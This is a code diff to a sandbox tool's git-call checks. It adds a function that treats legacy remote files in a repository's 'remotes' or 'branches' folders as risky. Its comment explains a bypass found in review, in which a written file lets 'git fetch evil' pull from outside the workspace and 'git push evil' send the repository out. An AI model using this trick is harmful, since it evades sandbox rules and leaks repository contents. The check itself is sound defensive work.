@@ -1,5 +1,5 @@
 import { lstatSync, realpathSync, type Dirent } from 'node:fs';
-import { lstat, opendir, readlink, realpath } from 'node:fs/promises';
+import { lstat, opendir, readdir, readlink, realpath } from 'node:fs/promises';
 import { homedir } from 'node:os';
 import path from 'node:path';
 import { commandBaseName } from '@airlock/api';
@@ -496,6 +496,7 @@ async function lookedAt(workspace: string, call: GitCall, looks: GitLooks): Prom
       if (cause !== undefined) causesOf(looks).set(workspace, cause);
       return cause !== undefined;
     })) === true;
+  if ((await once(looks, `remotes\0${workspace}`, () => ownRemoteFiles(workspace))) === true) answer = true;
   for (const start of call.starts) {
     const found = await once(looks, `from\0${workspace}\0${start}`, () => discoveredMayRun(workspace, start));
     if (found === true) answer = true;
@@ -517,6 +518,27 @@ async function once(looks: GitLooks, key: string, look: () => Promise<boolean | 
   const found = await look().catch(() => true);
   looks.set(key, found);
   return found;
+}
+
+/**
+ * Whether the workspace repository's Git directory defines a remote by a file, as Git still reads them: `remotes/<name>`
+ * (`URL:`, `Push:` and `Pull:` lines) or `branches/<name>` (a URL). The sandbox holds those folders read-only only when
+ * they exist as a call starts, and git makes neither by itself nowadays (older templates made an empty `branches`), so
+ * a file there is one a call may have written: `git fetch evil` fetched from the path or URL it named, a repository
+ * outside the workspace, and force-updated a local branch by its `Pull:` line, and `git push evil` sends the repository
+ * to its URL, where the rules ask about a URL or path the call names (found in review). Any entry counts, and a folder
+ * that cannot be read.
+ */
+async function ownRemoteFiles(workspace: string): Promise<boolean> {
+  const found = workspaceGitDir(workspace);
+  if (found === undefined || !('found' in found)) return false;
+  for (const folder of repositoryFolders(found.found)) {
+    for (const name of ['remotes', 'branches']) {
+      const entries = await readdir(path.join(folder, name)).catch((error: unknown) => (notThere(error) ? [] : undefined));
+      if (entries === undefined || entries.length > 0) return true;
+    }
+  }
+  return false;
 }
 
 /** One repository git may work in: where its index is, and its work tree. */
